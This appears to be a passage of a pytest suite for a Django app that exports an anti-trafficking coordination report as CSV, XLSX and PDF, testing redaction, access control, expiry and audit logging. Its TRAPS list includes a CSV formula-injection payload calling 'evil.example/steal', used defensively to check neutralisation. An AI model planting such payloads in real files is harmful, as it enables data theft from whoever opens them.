"""Exports of the coordination report as Celery jobs [SPEC 2.8, 2.9]: each format opened with
its real reader (zipfile + csv, openpyxl, pypdf), no victim identity in any file, the job from
the form to the download, who may follow and fetch it, expiry, failure, the access log, a real
worker on the real Redis, and rows streamed from server-side cursors.

Every test writes into a temporary EXPORT_ROOT of its own. Jobs are run by calling
reports.exports.jobs.run directly (on_commit never fires inside a test's transaction), except in
the worker test, which commits and lets a real Celery worker pick the job up.
"""

import csv
import datetime
import hashlib
import inspect
import io
import re
import time
import uuid
import zipfile
from types import SimpleNamespace

import pytest
from celery.contrib.testing.worker import start_worker
from django.conf import settings
from django.db import connections, transaction
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter
from pypdf import PdfReader

from accounts.models import AccessLog, Agency, Jurisdiction
from cases.models import CoordinationMeeting
from config.celery import app
from reports import coordination, tasks
from reports.coordination import Period
from reports.exports import jobs, writers
from reports.models import ExportJob
from reports.tables import DATE, DATETIME, cell_text
from victims.models import IdentityDocument, ProtectedRelative, Victim, VictimIdentity

from . import factories

EXPORT_URL = "/reports/coordination/export/"
TABLE_KEYS = ["international_cases", "cooperation_requests", "referrals", "referral_timings", "hearings",
              "protection_orders", "violations", "meetings", "deadlines_by_kind", "deadlines_by_agency"]
SECTION_TITLES = ["Cases with international elements", "Referrals between agencies",
                  "Upcoming hearings that need coordination", "Protection orders and violations",
                  "Coordination meetings held", "Missed and extended deadlines"]
MEETING_HEADER = ["Case", "Held on", "Agencies attending", "Decisions", "Next meeting"]
# Text a spreadsheet would run as a formula if a CSV cell started with it.
TRAPS = ['=HYPERLINK("http://evil.example/steal","Open the file")', "+351 and 2+2", "-x marks the spot",
         "@SUM(1,2)"]
FOLLOW_UPS = 150
GONE = ("This export is no longer kept: files are deleted 1 hour(s) after they are made. Run the export "
        "again.")
WRITE_FAILED = ("The export could not be written (RuntimeError). Nothing was kept; try again, and tell your "
                "administrator if it fails again.")


@pytest.fixture
def export_root(settings, tmp_path):
    settings.EXPORT_ROOT = tmp_path / "exports"
    return settings.EXPORT_ROOT


def status_url(job):
    return f"/reports/exports/{job.pk}/"


def download_url(job):
    return f"/reports/exports/{job.pk}/download/"


def _meetings(case, recorder, held_on, decisions, agencies=(), next_meeting_on=None):
    """Meetings in bulk (decisions: a list, one meeting each), attended by `agencies`."""
    made = CoordinationMeeting.objects.bulk_create(
        [CoordinationMeeting(case=case, held_on=held_on, decisions=text, next_meeting_on=next_meeting_on,
                             recorded_by=recorder) for text in decisions])
    through = CoordinationMeeting.agencies.through
    through.objects.bulk_create([through(coordinationmeeting=meeting, agency=agency)
                                 for meeting in made for agency in agencies])
    return made


@pytest.fixture
def dataset(demo):
    """The demo world seen by the demo focal point over the last 60 days, plus: meetings on
    Operation Harvest whose decisions start like formulas, 150 follow-up meetings (a table long
    enough to span PDF pages), and more identity for Maria (V-DM4HN8TB, in the hearings and
    orders) and Andreea (V-DM5RBT2W, in the referrals, hearings, orders and violations)."""
    today = timezone.localdate()
    focal = demo.user("focalpoint")
    harvest = demo.case("C1")
    police, ngo = demo.user("investigator").agency, demo.user("caseworker").agency
    held, following = today - datetime.timedelta(days=10), today + datetime.timedelta(days=7)
    traps = _meetings(harvest, focal, held, TRAPS, agencies=[police, ngo], next_meeting_on=following)
    _meetings(harvest, focal, today - datetime.timedelta(days=20),
              [f"Routine follow-up meeting no. {n:03d}" for n in range(1, FOLLOW_UPS + 1)], agencies=[ngo])

    maria, andreea = demo.victim("V2"), Victim.objects.get(code="V-DM5RBT2W")
    VictimIdentity.objects.filter(victim=maria).update(aliases="Mariazinha", date_of_birth=datetime.date(1991, 3, 14),
                                                       mobile_phone="+351 912 345 678", email="maria.s@example.net",
                                                       mailing_street="Rua do Sol 3", mailing_city="Lisboa",
                                                       mailing_postal_code="1100-999")
    IdentityDocument.objects.create(victim=maria, kind=IdentityDocument.Kind.PASSPORT, number="P4711XK",
                                    issuing_country="BR", held_by=IdentityDocument.Holder.POLICE)
    IdentityDocument.objects.create(victim=andreea, kind=IdentityDocument.Kind.NATIONAL_ID, number="RX998877",
                                    issuing_country="RO", held_by=IdentityDocument.Holder.NGO)
    IdentityDocument.objects.create(victim=andreea, kind=IdentityDocument.Kind.BIRTH_CERTIFICATE, number="")
    period = Period(date_from=today - datetime.timedelta(days=60), date_to=today, jurisdiction=harvest.jurisdiction)
    return SimpleNamespace(focal=focal, harvest=harvest, police=police, ngo=ngo, held=held, following=following,
                           traps=traps, period=period, maria=maria, andreea=andreea, today=today)


def run_export(user, period, format):
    """Ask for an export as `user` and run it here; the finished job and its file."""
    job = jobs.request_export(user=user, period=period, format=format)
    assert jobs.run(job.pk) is not None
    job.refresh_from_db()
    assert job.status == ExportJob.Status.DONE, job.error
    return job, settings.EXPORT_ROOT / job.file_name


def expected_total(user, period):
    return sum(table.count() for table in coordination.build(user, period).tables)


def form_data(period, export_format, **changes):
    data = {"date_from": period.date_from.isoformat(), "date_to": period.date_to.isoformat(),
            "jurisdiction": str(period.jurisdiction.pk), "agency": "", "format": export_format}
    data.update(changes)
    return data


def csv_text(value):
    """What a CSV cell holds for a typed value: text that starts like a formula gets a quote."""
    if isinstance(value, str):
        return "'" + value if value.startswith(("=", "+", "-", "@", "\t", "\r")) else value
    return cell_text(value)


# --- 1. Each format, opened with its real reader ---------------------------------------------

def read_csv_zip(path):
    """{member name: raw bytes} and {table key: rows} of an exported CSV zip."""
    with zipfile.ZipFile(path) as archive:
        assert archive.testzip() is None
        raw = {name: archive.read(name) for name in archive.namelist()}
    tables = {}
    for name, data in raw.items():
        if name.endswith(".csv"):
            key = name[3:-4]
            tables[key] = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    return raw, tables


def test_csv_export_is_a_zip_of_one_bom_prefixed_csv_per_table_with_formulas_neutralised(dataset, export_root):
    job, path = run_export(dataset.focal, dataset.period, "csv")
    report = coordination.build(dataset.focal, dataset.period)
    raw, tables = read_csv_zip(path)
    assert list(raw) == ["00-about.txt"] + [f"{n:02d}-{key}.csv" for n, key in enumerate(TABLE_KEYS, start=1)]
    about = raw["00-about.txt"].decode("utf-8").split("\r\n")
    start, end = dataset.period.date_from, dataset.period.date_to
    assert about[:6] == [
        "Coordination report", f"Classification: {settings.COORDINATION_REPORT_CLASSIFICATION}",
        f"Period: {start:%Y-%m-%d} – {end:%Y-%m-%d}", "Jurisdiction: Lisbon judicial district (PT)",
        "Agency: All agencies", "Exported by: Teresa Nunes"]
    assert about[6].startswith("Exported at: ") and about[7:] == [f"Rows: {job.rows_total}", ""]

    for name, data in raw.items():
        if name.endswith(".csv"):
            assert data.startswith(b"\xef\xbb\xbf"), name
            assert b"\xef\xbb\xbf" not in data[3:], name  # one mark, at the start only
    for table in report.tables:
        rows = tables[table.key]
        assert rows[0] == [str(column.label) for column in table.columns], table.key
        assert rows[1:] == [[csv_text(value) for value in cells] for cells, _links in table.rows()], table.key
    assert tables["meetings"][0] == MEETING_HEADER
    assert tables["referrals"][0][:7] == ["Victim", "From", "To", "Urgency", "Status", "International", "Sent"]

    meetings = tables["meetings"][1:]
    assert len(meetings) == FOLLOW_UPS + len(TRAPS) + 2  # the demo's two meetings in Sintra
    attending = "; ".join(sorted([dataset.police.name, dataset.ngo.name]))
    assert attending == "Judicial Police – Anti-Trafficking Unit; Safe Harbour Association"
    for text in TRAPS:
        assert ["PT-LIS-2026-0001", dataset.held.isoformat(), attending, "'" + text,
                dataset.following.isoformat()] in meetings
    assert ["PT-LIS-2026-0001", (dataset.today - datetime.timedelta(days=20)).isoformat(),
            "Safe Harbour Association", "Routine follow-up meeting no. 001", ""] in meetings
    # No cell anywhere starts like a formula (numbers aside).
    for key, rows in tables.items():
        for row in rows:
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or re.fullmatch(
                    r"-\d+(\.\d+)?", cell), (key, cell)


def test_xlsx_export_has_one_sheet_per_table_with_typed_cells_a_frozen_header_and_a_filter(dataset, export_root):
    job, path = run_export(dataset.focal, dataset.period, "xlsx")
    report = coordination.build(dataset.focal, dataset.period)
    book = load_workbook(path)
    assert book.sheetnames == ["About", *TABLE_KEYS]
    about = [row[0] for row in book["About"].iter_rows(values_only=True)]
    assert about[:6] == [
        "Coordination report", f"Classification: {settings.COORDINATION_REPORT_CLASSIFICATION}",
        f"Period: {dataset.period.date_from:%Y-%m-%d} – {dataset.period.date_to:%Y-%m-%d}",
        "Jurisdiction: Lisbon judicial district (PT)", "Agency: All agencies", "Exported by: Teresa Nunes"]
    assert about[-1] == f"Rows: {job.rows_total}"

    kinds_seen = set()
    for table in report.tables:
        sheet = book[table.key]
        expected = [cells for cells, _links in table.rows()]
        width = len(table.columns)
        assert sheet.freeze_panes == "A2", table.key
        assert sheet.auto_filter.ref == f"A1:{get_column_letter(width)}{max(len(expected), 1) + 1}", table.key
        header = next(sheet.iter_rows(min_row=1, max_row=1))
        assert [cell.value for cell in header] == [str(column.label) for column in table.columns]
        assert {cell.data_type for cell in header} == {"s"}
        rows = list(sheet.iter_rows(min_row=2, max_col=width))
        assert len(rows) == len(expected) == table.count(), table.key
        for row, values in zip(rows, expected):
            for cell, column, value in zip(row, table.columns, values):
                assert cell.data_type != "f", (table.key, cell.coordinate)
                if value is None or value == "":
                    assert cell.value is None, (table.key, cell.coordinate)
                elif column.kind in (DATE, DATETIME):
                    assert cell.is_date and isinstance(cell.value, datetime.datetime), (table.key, cell.coordinate)
                    moment = value if column.kind == DATETIME else datetime.datetime.combine(value, datetime.time())
                    assert cell.value == moment
                    kinds_seen.add("date")
                elif isinstance(value, (int, float)):
                    assert cell.data_type == "n" and cell.value == value, (table.key, cell.coordinate)
                    kinds_seen.add("number")
                else:
                    assert cell.data_type == "s" and cell.value == value, (table.key, cell.coordinate)
                    kinds_seen.add("text")
    assert kinds_seen == {"date", "number", "text"}

    meetings = book["meetings"]
    held = datetime.datetime.combine(dataset.held, datetime.time())
    trap_rows = [row for row in meetings.iter_rows(min_row=2) if row[1].value == held]
    assert sorted(row[3].value for row in trap_rows) == sorted(TRAPS)
    for row in trap_rows:
        assert row[3].data_type == "s" and row[0].value == "PT-LIS-2026-0001" and row[1].is_date
        assert row[4].value == datetime.datetime.combine(dataset.following, datetime.time())
    # The number of cooperation requests is a number cell.
    cases = {row[0].value: row for row in book["international_cases"].iter_rows(min_row=2)}
    assert cases["PT-SNT-2026-0001"][10].data_type == "n" and cases["PT-SNT-2026-0001"][10].value == 2
    assert cases["PT-SNT-2026-0001"][3].is_date


def pdf_pages(path):
    """Each page's text with runs of white space made one space."""
    return [" ".join(page.extract_text().split()) for page in PdfReader(path).pages]


def test_pdf_export_has_a_title_page_numbered_pages_and_long_tables_repeat_their_header(dataset, export_root):
    job, path = run_export(dataset.focal, dataset.period, "pdf")
    pages = pdf_pages(path)
    total = len(pages)
    classification = settings.COORDINATION_REPORT_CLASSIFICATION
    title = pages[0]
    assert title.startswith("Coordination report")
    for line in (f"Classification: {classification}",
                 f"Period: {dataset.period.date_from:%Y-%m-%d} – {dataset.period.date_to:%Y-%m-%d}",
                 "Jurisdiction: Lisbon judicial district (PT)", "Agency: All agencies",
                 f"Exported by: {dataset.focal.get_full_name()}", f"Rows: {job.rows_total}",
                 # The contents and the note fit on the title page.
                 "Contents", "Missed and extended deadlines by responsible agency",
                 "Victims appear by their pseudonymous code only."):
        assert line in title, line
    assert dataset.focal.get_full_name() == "Teresa Nunes"
    for number, text in enumerate(pages, start=1):
        assert text.endswith(f"Page {number} of {total}"), number
        assert classification in text
    for text in pages[1:]:
        assert text.startswith(f"Coordination report · {classification}")
    # Each section opens a page with its title.
    for section in SECTION_TITLES:
        assert [text for text in pages[1:] if text.split(classification, 1)[1].lstrip().startswith(section)], section

    # Column headings wrap between words, never inside one ("Transn ational").
    words = set(" ".join(pages).split())
    report = coordination.build(dataset.focal, dataset.period)
    shown = [table for table in report.tables if table.count()]
    assert len(shown) == len(TABLE_KEYS)
    broken = [(table.key, word) for table in shown for column in table.columns
              for word in str(column.label).split() if word not in words]
    assert broken == []

    # The meetings table spans pages; its header heads each of them, and no row is lost.
    count = FOLLOW_UPS + len(TRAPS) + 2
    header = " ".join(MEETING_HEADER)
    first = next(n for n, text in enumerate(pages) if f"Coordination meetings held ({count})" in text)
    last = next(n for n, text in enumerate(pages) if text.split(classification, 1)[1].lstrip().startswith(
        "Missed and extended deadlines")) - 1
    assert last - first >= 2, "150 meetings fill more than two pages"
    for n in range(first, last + 1):
        assert pages[n].count(header) == 1, n
        assert "Routine follow-up meeting no." in pages[n]
    second = pages[first + 1].split(f"Coordination report · {classification}", 1)[1].lstrip()
    assert second.startswith(header)
    meeting_text = " ".join(pages[first:last + 1])
    for number in range(1, FOLLOW_UPS + 1):
        assert meeting_text.count(f"Routine follow-up meeting no. {number:03d}") == 1, number
    for text in TRAPS:
        assert text in meeting_text


# --- 2. No victim's identity in any file ------------------------------------------------------

def identity_values():
    values = set()
    # City, state, country, salutation and title are left out: alone they name no one, and towns
    # and countries are rightly all over the report.
    fields = ("given_names", "family_name", "aliases", "date_of_birth", "mailing_street", "mailing_postal_code",
              "email", "home_phone", "mobile_phone", "contact", "shelter_location", "guardian", "accompanying_adult")
    for row in VictimIdentity.objects.values_list(*fields):
        for value in row:
            if isinstance(value, datetime.date):
                values |= {value.isoformat(), value.strftime("%d/%m/%Y")}
            elif value:
                values.add(value)
    values |= set(ProtectedRelative.objects.values_list("name", flat=True))
    values |= set(IdentityDocument.objects.exclude(number="").values_list("number", flat=True))
    return {value.strip() for value in values if value and value.strip()}


def file_texts(path, format):
    """Every piece of text a file holds, decoded with its format's reader."""
    if format == "csv":
        with zipfile.ZipFile(path) as archive:
            return [archive.read(name).decode("utf-8-sig") for name in archive.namelist()]
    if format == "xlsx":
        book = load_workbook(path)
        texts = list(book.sheetnames)
        for sheet in book.worksheets:
            texts += [str(cell.value) for row in sheet.iter_rows() for cell in row if cell.value is not None]
        return texts
    reader = PdfReader(path)
    return [page.extract_text() for page in reader.pages] + [str(value) for value in (reader.metadata or {}).values()]


def test_no_identity_value_of_any_victim_appears_in_any_exported_file(dataset, export_root):
    values = identity_values()
    # What the search looks for: the demo's names, addresses, contacts and shelters, and the
    # aliases, birth dates, documents and relatives added here.
    assert {"Maria", "Santos", "Mariazinha", "1991-03-14", "14/03/1991", "Rua do Sol 3", "1100-999",
            "maria.s@example.net", "+351 912 345 678", "P4711XK", "RX998877", "Ana Santos", "Andreea", "Ionescu",
            "Shelter B"} <= values
    patterns = {value: re.compile(rf"(?<!\w){re.escape(value)}(?!\w)") for value in values}
    for format in ("csv", "xlsx", "pdf"):
        _job, path = run_export(dataset.focal, dataset.period, format)
        texts = file_texts(path, format)
        everything = "\n".join(texts)
        # The report is about these victims: their codes are in the file.
        for code in (dataset.maria.code, dataset.andreea.code):
            assert code in everything, (format, code)
        flat = " ".join(everything.split())
        leaks = sorted(value for value, pattern in patterns.items()
                       if pattern.search(everything) or pattern.search(flat))
        assert leaks == [], format


# --- 3. The job: form, progress, download, claimed once, bad input -----------------------------

def test_the_focal_point_asks_for_an_export_follows_it_and_downloads_the_file(dataset, export_root, login,
                                                                          monkeypatch,
                                                                          django_capture_on_commit_callbacks):
    client = login("focalpoint")
    sent = []
    monkeypatch.setattr(tasks.run_export, "delay", lambda job_id: sent.append(job_id))
    with django_capture_on_commit_callbacks(execute=True) as callbacks:
        response = client.post(EXPORT_URL, form_data(dataset.period, "xlsx"))
    job = ExportJob.objects.get()
    assert response.status_code == 302 and response["Location"] == status_url(job) == job.get_absolute_url()
    assert (job.requested_by, job.report, job.format, job.status) == (dataset.focal, "coordination", "xlsx", "queued")
    assert job.filters == {"from": dataset.period.date_from.isoformat(), "to": dataset.period.date_to.isoformat(),
                           "jurisdiction": dataset.harvest.jurisdiction_id, "agency": None}
    assert job.rows_total is None and job.rows_done == 0 and job.file_name == "" and job.sha256 == ""
    # The worker is asked once the request's transaction commits.
    assert len(callbacks) == 1 and sent == [str(job.pk)]
    assert list(export_root.glob("*")) == []

    page = client.get(status_url(job)).content.decode()
    assert 'data-status="queued"' in page and "Waiting for a worker" in page
    assert f'hx-get="{status_url(job)}?fragment=1"' in page  # the page polls while it waits

    total = expected_total(dataset.focal, dataset.period)
    assert total == sum(table.count() for table in coordination.build(dataset.focal, dataset.period).tables) > 150
    assert jobs.run(job.pk) == job
    job.refresh_from_db()
    assert job.status == "done" and job.rows_done == job.rows_total == total
    for fragment in (client.get(status_url(job), {"fragment": "1"}),
                     client.get(status_url(job), headers={"HX-Request": "true"})):
        text = fragment.content.decode()
        assert fragment.status_code == 200 and "<html" not in text
        assert text.startswith('<div id="export-progress" data-status="done">')  # finished: no more polling
        assert "<strong>Ready to download</strong>" in text
        assert f'<span id="rows-done">{total}</span> of <span id="rows-total">{total}</span> rows' in text
        assert f'<a href="{download_url(job)}" role="button" id="download">Download {job.download_name}</a>' in text
        assert f"<code>{job.sha256}</code>" in text

    path = export_root / job.file_name
    assert job.file_name == f"{job.pk}.xlsx" and job.size == path.stat().st_size
    book = load_workbook(path, read_only=True)
    assert sum(book[key].max_row - 1 for key in TABLE_KEYS) == total
    book.close()

    response = client.get(download_url(job))
    body = b"".join(response.streaming_content)  # read to the end, which closes the file
    assert response.status_code == 200
    assert response["Content-Disposition"] == f'attachment; filename="{job.download_name}"'
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Cache-Control"] == "no-store"
    assert re.fullmatch(r"coordination-report-\d{8}-\d{4}\.xlsx", job.download_name)
    assert hashlib.sha256(body).hexdigest() == job.sha256 == hashlib.sha256(path.read_bytes()).hexdigest()

    # A second run of the same job (a redelivered task) does nothing.
    logged = AccessLog.objects.filter(action="export").count()
    finished = (job.finished_at, job.sha256, job.expires_at)
    assert jobs.run(job.pk) is None
    assert tasks.run_export(str(job.pk)) is None
    job.refresh_from_db()
    assert (job.finished_at, job.sha256, job.expires_at) == finished and job.status == "done"
    assert sorted(p.name for p in export_root.iterdir()) == [job.file_name]
    assert AccessLog.objects.filter(action="export").count() == logged


def test_the_file_is_stamped_in_local_time(dataset, export_root, settings):
    settings.TIME_ZONE = "Asia/Tokyo"  # UTC+9 all year: the stamp differs from UTC's
    job, path = run_export(dataset.focal, dataset.period, "csv")
    local = timezone.localtime(job.finished_at)
    assert local.utcoffset() == datetime.timedelta(hours=9)
    assert job.download_name == f"coordination-report-{local:%Y%m%d-%H%M}.zip"
    raw, _tables = read_csv_zip(path)
    exported_at = raw["00-about.txt"].decode("utf-8").split("\r\n")[6]
    assert re.fullmatch(r"Exported at: \d{4}-\d\d-\d\d \d\d:\d\d JST", exported_at)
    assert abs(datetime.datetime.strptime(exported_at[13:29], "%Y-%m-%d %H:%M") - local.replace(tzinfo=None)) \
        < datetime.timedelta(minutes=2)


@pytest.mark.parametrize("changes, field, message", [
    ({"format": "doc"}, "format", "There is no export format “doc”."),
    ({"format": ""}, "format", "Choose a format."),
    ("end-before-start", "date_to", "The period cannot end before it starts."),
    ("other-country", "jurisdiction", "That is not a jurisdiction you can report on."),
    ({"jurisdiction": "987654"}, "jurisdiction", "That is not a jurisdiction you can report on."),
    ({"date_from": "yesterday"}, "date_from", "Enter a valid date."),
])
def test_bad_export_input_is_refused_at_its_field_and_starts_nothing(dataset, export_root, login, changes, field,
                                                                     message, django_capture_on_commit_callbacks):
    if changes == "end-before-start":
        changes = {"date_from": dataset.today.isoformat(),
                   "date_to": (dataset.today - datetime.timedelta(days=1)).isoformat()}
    elif changes == "other-country":
        changes = {"jurisdiction": str(Jurisdiction.objects.get(country="BR").pk)}
    with django_capture_on_commit_callbacks() as callbacks:
        response = login("focalpoint").post(EXPORT_URL, form_data(dataset.period, "csv", **changes))
    assert response.status_code == 400
    page = response.content.decode()
    label = re.search(rf'<label for="export-{field}">(.*?)</label>', page, re.S)
    assert label and f'<small class="error" role="alert">{message}</small>' in label.group(1)
    assert not ExportJob.objects.exists() and callbacks == []
    assert list(export_root.glob("*")) == []


# --- 4. Access: the requester alone ----------------------------------------------------------

def test_nobody_but_the_requester_follows_or_downloads_an_export_and_each_refusal_is_logged(dataset, export_root,
                                                                                           login, demo):
    job, _path = run_export(dataset.focal, dataset.period, "csv")
    assert login("focalpoint").get(status_url(job)).status_code == 200
    for username in ("supervisor", "prosecutor"):
        client = login(username)
        for url in (status_url(job), f"{status_url(job)}?fragment=1", download_url(job)):
            response = client.get(url)
            assert response.status_code == 404, (username, url)
            assert not getattr(response, "streaming", False)
            assert job.sha256 not in response.content.decode()
        denials = AccessLog.objects.filter(user=demo.user(username), action=AccessLog.Action.DENIED,
                                           object_id=str(job.pk))
        assert sorted(denials.values_list("requested", flat=True)) == ["download", "view", "view"], username
        assert {entry.object_label for entry in denials} == {f"export #{job.pk}"}
        assert {entry.path for entry in denials} == {status_url(job), download_url(job)}
    assert not AccessLog.objects.filter(action=AccessLog.Action.EXPORT, details__downloaded=True).exists()


def test_a_supervisor_may_export_but_investigators_and_prosecutors_may_not(dataset, export_root, login, demo):
    response = login("supervisor").post(EXPORT_URL, form_data(dataset.period, "pdf"))
    job = ExportJob.objects.get()
    assert response.status_code == 302 and job.requested_by == demo.user("supervisor")
    # ... and the focal point cannot follow the supervisor's export.
    assert login("focalpoint").get(status_url(job)).status_code == 404
    for username in ("investigator", "prosecutor"):
        response = login(username).post(EXPORT_URL, form_data(dataset.period, "csv"))
        assert response.status_code == 403, username
    assert ExportJob.objects.count() == 1


# --- 5. Expiry --------------------------------------------------------------------------------

def test_a_file_past_its_time_is_deleted_and_its_download_is_gone(dataset, export_root, login, settings):
    settings.EXPORT_FILE_HOURS = 2
    job, path = run_export(dataset.focal, dataset.period, "csv")
    assert job.expires_at == job.finished_at + datetime.timedelta(hours=2)
    other, other_path = run_export(dataset.focal, dataset.period, "pdf")
    assert jobs.purge_expired(now=job.expires_at - datetime.timedelta(seconds=1)) == 0
    assert path.exists() and other_path.exists()
    # Past their time (beat passes the clock's now): both deleted.
    assert jobs.purge_expired(now=other.expires_at + datetime.timedelta(seconds=1)) == 2
    for expired, expired_path in ((job, path), (other, other_path)):
        expired.refresh_from_db()
        assert expired.status == "expired" and expired.file_name == "" and not expired_path.exists()
    assert list(export_root.iterdir()) == []
    assert jobs.purge_expired(now=other.expires_at + datetime.timedelta(hours=1)) == 0

    settings.EXPORT_FILE_HOURS = 1
    client = login("focalpoint")
    response = client.get(download_url(job))
    assert response.status_code == 410 and not getattr(response, "streaming", False)
    assert f'<p class="error" role="alert" id="export-gone">{GONE}</p>' in response.content.decode()
    page = client.get(status_url(job)).content.decode()
    assert "Expired (file deleted)" in page and "The file was deleted when its time ran out." in page
    assert 'id="download"' not in page


def test_a_download_after_its_time_is_refused_even_before_the_file_is_purged(dataset, export_root, login):
    job, path = run_export(dataset.focal, dataset.period, "xlsx")
    job.expires_at = timezone.now() - datetime.timedelta(minutes=1)
    job.save(update_fields=["expires_at"])
    client = login("focalpoint")
    response = client.get(download_url(job))
    assert response.status_code == 410 and GONE in response.content.decode()
    assert jobs.purge_expired() == 1 and not path.exists()
    job.refresh_from_db()
    assert job.status == "expired"
    response = client.get(download_url(job))
    assert response.status_code == 410 and GONE in response.content.decode()
    # Refusing a gone file logs no download.
    assert not AccessLog.objects.filter(action="export", details__downloaded=True).exists()


def test_a_job_stuck_running_is_failed_and_its_partial_file_removed(dataset, export_root):
    now = timezone.now()
    export_root.mkdir(parents=True)

    def job(status, started_ago, created_ago, extension):
        made = ExportJob.objects.create(report="coordination", requested_by=dataset.focal, format=extension,
                                        filters=dataset.period.as_json(), status=status,
                                        started_at=None if started_ago is None else now - started_ago)
        ExportJob.objects.filter(pk=made.pk).update(created_at=now - created_ago)
        partial = export_root / f"{made.pk}.{extension}.part"
        partial.write_bytes(b"half a file")
        return made, partial

    hours = datetime.timedelta(hours=1)
    stuck, stuck_file = job("running", 2 * hours + datetime.timedelta(minutes=1), 3 * hours, "pdf")
    lost, lost_file = job("queued", None, 2 * hours + datetime.timedelta(minutes=1), "csv")
    # Waited long in the queue but started ten minutes ago: a worker is writing it.
    busy, busy_file = job("running", datetime.timedelta(minutes=10), 3 * hours, "xlsx")
    fresh, fresh_file = job("queued", None, datetime.timedelta(minutes=30), "csv")
    assert jobs.purge_expired(now=now) == 0
    for failed, failed_file in ((stuck, stuck_file), (lost, lost_file)):
        failed.refresh_from_db()
        assert failed.status == "failed" and failed.finished_at == now and not failed_file.exists()
        assert failed.error == "The export was not finished: the worker stopped. Run it again."
    for alive, alive_file, status in ((busy, busy_file, "running"), (fresh, fresh_file, "queued")):
        alive.refresh_from_db()
        assert alive.status == status and alive_file.exists()


# --- 6. Failure -------------------------------------------------------------------------------

def test_a_writer_that_fails_fails_the_job_and_leaves_no_file(dataset, export_root, login, monkeypatch):
    def broken(report, path, progress, total):
        path.write_bytes(b"the first rows")
        progress(1)
        raise RuntimeError("disk full")

    monkeypatch.setitem(writers.WRITERS, "xlsx", broken)
    job = jobs.request_export(user=dataset.focal, period=dataset.period, format="xlsx")
    jobs.run(job.pk)
    job.refresh_from_db()
    assert job.status == "failed" and job.error == WRITE_FAILED
    assert (job.file_name, job.sha256, job.size, job.expires_at) == ("", "", None, None)
    # What it got to before it failed stays on the job.
    assert job.rows_total == expected_total(dataset.focal, dataset.period) and job.rows_done == 1
    assert job.finished_at is not None
    assert list(export_root.iterdir()) == []  # neither the file nor its .part
    client = login("focalpoint")
    for response in (client.get(status_url(job)), client.get(status_url(job), {"fragment": "1"})):
        text = response.content.decode()
        assert 'data-status="failed"' in text and "<strong>Failed</strong>" in text
        assert f'<p class="error" role="alert" id="export-error">{WRITE_FAILED}</p>' in text
        assert 'id="download"' not in text and "hx-get" not in text
    assert client.get(download_url(job)).status_code == 410
    assert not AccessLog.objects.filter(action="export").exists()


@pytest.mark.parametrize("change, message", [
    ("jurisdiction", "That is not a jurisdiction you can report on."),
    ("agency", "That is not an agency you can report on."),
    ("dates", "The period cannot end before it starts."),
    ("function", "You may no longer export this report."),
])
def test_a_job_whose_filters_are_no_longer_allowed_fails_with_the_forms_message(dataset, export_root, login,
                                                                                 change, message):
    job = jobs.request_export(user=dataset.focal, period=dataset.period, format="pdf")
    brazil = Jurisdiction.objects.get(country="BR")
    if change == "jurisdiction":
        job.filters["jurisdiction"] = brazil.pk
    elif change == "agency":
        job.filters["agency"] = Agency.objects.filter(country="BR").first().pk
    elif change == "dates":
        job.filters["to"] = (dataset.period.date_from - datetime.timedelta(days=1)).isoformat()
    else:
        dataset.focal.functions = ["investigator"]
        dataset.focal.save(update_fields=["functions"])
    job.save()
    jobs.run(job.pk)
    job.refresh_from_db()
    assert job.status == "failed" and job.error == message and job.file_name == ""
    assert list(export_root.glob("*")) == []
    if change != "function":
        fragment = login("focalpoint").get(status_url(job), {"fragment": "1"}).content.decode()
        assert f'<p class="error" role="alert" id="export-error">{message}</p>' in fragment


# --- 7. The access log ------------------------------------------------------------------------

def test_each_export_and_each_download_is_in_the_access_log_for_the_auditor(dataset, export_root, login):
    job, _path = run_export(dataset.focal, dataset.period, "csv")
    entry = AccessLog.objects.get(action=AccessLog.Action.EXPORT)
    start, end = dataset.period.date_from, dataset.period.date_to
    assert (entry.user, entry.username, entry.object_id, entry.object_label) == (
        dataset.focal, "focalpoint", str(job.pk), f"export #{job.pk}")
    assert (entry.requested, entry.purpose) == ("coordination csv", "Coordination report")
    assert entry.details == {
        "report": "coordination", "format": "csv", "rows": job.rows_total, "sha256": job.sha256,
        "filters": {"from": start.isoformat(), "to": end.isoformat(), "jurisdiction": dataset.harvest.jurisdiction_id,
                    "agency": None},
        "filters_shown": [["Period", f"{start:%Y-%m-%d} – {end:%Y-%m-%d}"],
                          ["Jurisdiction", "Lisbon judicial district (PT)"], ["Agency", "All agencies"]],
        "classification": settings.COORDINATION_REPORT_CLASSIFICATION, "file": job.download_name,
    }
    assert job.rows_total == expected_total(dataset.focal, dataset.period)

    client = login("focalpoint")
    response = client.get(download_url(job))
    b"".join(response.streaming_content)
    entries = AccessLog.objects.filter(action=AccessLog.Action.EXPORT).order_by("at", "id")
    assert entries.count() == 2
    download = entries.last()
    assert (download.user, download.requested, download.path) == (dataset.focal, "download", download_url(job))
    assert download.details == {"report": "coordination", "format": "csv", "rows": job.rows_total,
                                "sha256": job.sha256, "filters": job.filters, "downloaded": True}
    login("prosecutor").get(status_url(job))  # a denial, not an export

    page = login("auditor").get(reverse("access-log"), {"action": "export"})
    assert page.status_code == 200
    body = page.content.decode().split("<tbody>", 1)[1].split("</tbody>", 1)[0]
    rows = [[" ".join(re.sub(r"<[^>]+>", " ", cell).split()) for cell in re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)]
            for row in re.findall(r"<tr[^>]*>(.*?)</tr>", body, re.S)]
    assert len(rows) == 2
    for cells in rows:
        assert {"focalpoint", "Exported", f"export #{job.pk}"} <= set(cells), cells
        assert [cell for cell in cells if job.sha256 in cell], cells  # the details column
    assert "prosecutor" not in body


# --- 8. A real worker on the real Redis ------------------------------------------------------

def committed_world(meetings=4):
    """A focal point, a case and its meetings of their own: a transactional test cannot count on
    the demo world (an earlier one may have emptied the database)."""
    today = timezone.localdate()
    office = Agency.objects.create(name=f"Coordination office {uuid.uuid4().hex[:6]}", kind="coordination",
                                   country="PT", jurisdiction=factories.jurisdiction())
    focal = factories.user(office, "focal_point")
    prosecutor = factories.user(factories.agency("prosecution"), "prosecutor")
    case = factories.case(prosecutor, is_transnational=True, countries_of_origin=["BR"])
    _meetings(case, focal, today, [f"Meeting {n}" for n in range(meetings)], agencies=[office])
    period = Period(date_from=today - datetime.timedelta(days=30), date_to=today,
